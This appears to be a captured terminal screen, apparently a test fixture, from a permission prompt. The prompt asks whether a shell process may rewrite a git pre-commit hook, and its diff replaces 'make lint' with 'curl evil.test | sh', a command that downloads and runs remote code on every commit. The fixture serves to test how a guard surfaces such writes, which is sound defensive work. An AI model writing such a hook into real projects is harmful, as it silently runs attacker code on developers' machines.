|=== seldom asks  fake.1  T2: hard to undo ===
|new: a file that becomes code
|sh (pid 4711, by bash > make, in /home/ana/src)
|wants to WRITE  /home/ana/src/.git/hooks/pre-commit
|then: becomes code: it runs later, outside the boundary
|why you are asked: no rule covers it
|> 1 this file  /srv/out/file
|  2 this folder  /srv/out  - 2 more files
|for  [once]
|| --- before
|| +++ after
||  #!/bin/sh
|| -make lint
|| +curl evil.test | sh
|program: /bin/sh
|choice 1: covers 1 of what waits
|choice 2: covers 3 of what waits, recommended
|y allow   n deny   d details   ? help   denied once in ## s
|
|
|
|
|
|
cursor 17,59

BBBBBBBBBBBBBBBBBBBBBBBBBBBBB

BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB


BBBBBBBBBBBBBBBBBBBBBBBBBBBB

















